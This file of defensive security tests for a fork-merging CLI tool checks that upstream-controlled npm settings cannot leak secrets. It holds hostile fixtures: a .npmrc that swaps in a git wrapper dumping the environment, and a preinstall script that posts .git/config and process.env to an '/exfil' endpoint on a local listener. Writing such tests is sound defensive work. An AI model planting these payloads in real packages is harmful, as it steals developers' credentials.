import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { runCli } from '../fixtures/resolve/cli.js';
import { TestRepo } from '../helpers/git-repo.js';

/**
 * Upstream steers the fork's package-manager commands: a `.npmrc` naming its own git binary beside a
 * `git+file:` dependency (what `npm install --package-lock-only --ignore-scripts`, the README's
 * regenerate command, runs), and a `preinstall` script for a `check.setup` given the network. Neither
 * runs: the sentinels they would write inside the tree stay absent, the key in the CLI's environment
 * reaches nothing the command sees, and a listener on this machine hears nothing.
 */

const KEY = 'sk-or-FAKE-regenerate-5d2c8e1b9a';
const env = { OPENROUTER_API_KEY: KEY };

/** A temporary directory outside /tmp (a sandboxed command gets a private /tmp). */
function scratch(): string {
  const root = mkdtempSync('/var/tmp/splintercat-regen-');
  onTestFinished(() => rmSync(root, { recursive: true, force: true }));
  return root;
}

function writeConfig(dir: string, lines: string[]): void {
  writeFileSync(join(dir, 'splintercat.yaml'), [...lines, ''].join('\n'));
  writeFileSync(join(dir, '.git', 'info', 'exclude'), 'splintercat.yaml\n.splintercat/\nregen-env.txt\n');
}

/** Every file under `dir` (`.git` included) holding `needle`. */
function filesHolding(dir: string, needle: string): string[] {
  const out: string[] = [];
  const walk = (at: string): void => {
    for (const entry of readdirSync(at, { withFileTypes: true })) {
      const path = join(at, entry.name);
      if (entry.isDirectory()) walk(path);
      else if (entry.isFile() && readFileSync(path).includes(needle)) out.push(path);
    }
  };
  walk(dir);
  return out;
}

/**
 * main and upstream both change package-lock.json; upstream also commits `.npmrc` naming its own git
 * (`tools/wrapper.sh`, which writes its environment to `sentinel`) and a `git+file:` dependency.
 */
function hostileLockfile(root: string, sentinel: (repoDir: string) => string): TestRepo {
  const dep = join(root, 'dep');
  mkdirSync(dep);
  const depRepo = TestRepo.create(dep);
  depRepo.commit('dep', { 'package.json': '{ "name": "dep", "version": "1.0.0" }\n' });
  mkdirSync(join(root, 'repo'));
  const repo = TestRepo.create(join(root, 'repo'));
  const lock = (v: string): string => `{ "name": "app", "version": "${v}", "lockfileVersion": 3, "packages": {} }\n`;
  repo.commit('base', { 'package.json': '{ "name": "app", "version": "1.0.0" }\n', 'package-lock.json': lock('1') });
  repo.branch('upstream');
  repo.commit('fork', { 'package-lock.json': lock('fork') });
  repo.checkout('upstream');
  repo.commit('upstream', {
    '.npmrc': 'git=./tools/wrapper.sh\n',
    'tools/wrapper.sh': `#!/bin/sh\nenv > "${sentinel(repo.dir)}"\nexec git "$@"\n`,
    'package.json': `{ "name": "app", "version": "1.0.0", "dependencies": { "dep": "git+file://${dep}" } }\n`,
    'package-lock.json': lock('upstream'),
  });
  chmodSync(join(repo.dir, 'tools', 'wrapper.sh'), 0o755);
  repo.sh('add', '--chmod=+x', 'tools/wrapper.sh');
  repo.sh('commit', '-q', '--amend', '--no-edit');
  repo.checkout('main');
  return repo;
}

describe('attack: upstream steers the regenerate command and a networked setup', () => {
  it('.npmrc git=./tools/wrapper.sh with a git+file dependency: the wrapper never runs, the key never seen', async () => {
    const root = scratch();
    // Inside the tree: a sandbox would let it write there, so its absence says it never ran.
    const sentinel = join(root, 'repo', 'wrapper-ran');
    const repo = hostileLockfile(root, () => sentinel);
    expect(() => repo.sh('merge', '--no-edit', 'upstream')).toThrow();
    writeConfig(repo.dir, [
      'resolve:',
      '  paths:',
      // The fork's own command, and what it shows of its environment.
      '    package-lock.json: { regenerate: "npm install --package-lock-only --ignore-scripts; env > regen-env.txt" }',
    ]);

    const run = await runCli(['resolve', '--no-model'], repo.dir, env);
    expect(existsSync(sentinel), run.stderr).toBe(false);
    const seen = readFileSync(join(repo.dir, 'regen-env.txt'), 'utf8');
    expect(seen).not.toContain(KEY);
    expect(seen).not.toMatch(/^OPENROUTER_API_KEY=/m);
    expect(seen).toMatch(/^npm_config_ignore_scripts=true$/m);
    expect(seen).toMatch(/^npm_config_git=git$/m);
    expect(filesHolding(repo.dir, KEY)).toEqual([]);
    expect(run.stdout + run.stderr).not.toContain(KEY);
  });

  it('the same in a merge run: the README command in the conflict worktree, the wrapper never runs', async () => {
    const root = scratch();
    const sentinel = join(root, 'wrapper-ran');
    const repo = hostileLockfile(root, () => sentinel);
    writeConfig(repo.dir, [
      'check:',
      '  commands:',
      '    build: "true"',
      '  workflow: [build]',
      'merge:',
      `  worktrees: ${join(root, 'wt')}`,
      'resolve:',
      '  paths:',
      '    package-lock.json: { regenerate: "npm install --package-lock-only --ignore-scripts" }',
    ]);
    const run = await runCli(['merge', 'upstream'], repo.dir, env);
    expect(existsSync(sentinel), run.stderr).toBe(false);
    expect(filesHolding(root, KEY)).toEqual([]);
    expect(run.stdout + run.stderr).not.toContain(KEY);
  });

  it('an upstream preinstall with check.setup: npm install and setup_network: the listener hears nothing', async () => {
    const heard: string[] = [];
    const server = createServer((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        heard.push(`${req.method} ${req.url} ${body}`);
        res.end('ok');
      });
    });
    await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    onTestFinished(() => new Promise<void>((done) => server.close(() => done())));
    const port = (server.address() as AddressInfo).port;

    const root = scratch();
    mkdirSync(join(root, 'repo'));
    const repo = TestRepo.create(join(root, 'repo'));
    const send = [
      "const fs=require('fs');fs.writeFileSync('preinstall-ran','');",
      `const r=require('http').request({host:'127.0.0.1',port:${port},method:'POST',path:'/exfil'});`,
      "r.on('error',()=>{});r.end(fs.readFileSync('.git/config','utf8')+JSON.stringify(process.env));",
    ].join('');
    const pkg = { name: 'app', version: '1.0.0', scripts: { preinstall: `node -e "${send}"` } };
    repo.commit('upstream package.json', { 'package.json': `${JSON.stringify(pkg, null, 2)}\n` });
    writeConfig(repo.dir, [
      'check:',
      '  commands:',
      '    build: "true"',
      '  setup: npm install --no-audit --no-fund',
      '  setup_network: true',
    ]);

    const run = await runCli(['check', 'build'], repo.dir, env);
    expect(run.code, run.stderr).toBe(0);
    expect(existsSync(join(repo.dir, 'preinstall-ran')), run.stderr).toBe(false);
    // Give any request in flight a round trip to land: a request to a closed-down listener still would.
    await new Promise<void>((done) => {
      const probe = createServer();
      probe.listen(0, '127.0.0.1', () => probe.close(() => done()));
    });
    expect(heard).toEqual([]);
    expect(execFileSync('git', ['status', '--porcelain'], { cwd: repo.dir, encoding: 'utf8' })).not.toContain(
      'preinstall-ran',
    );
  });
});
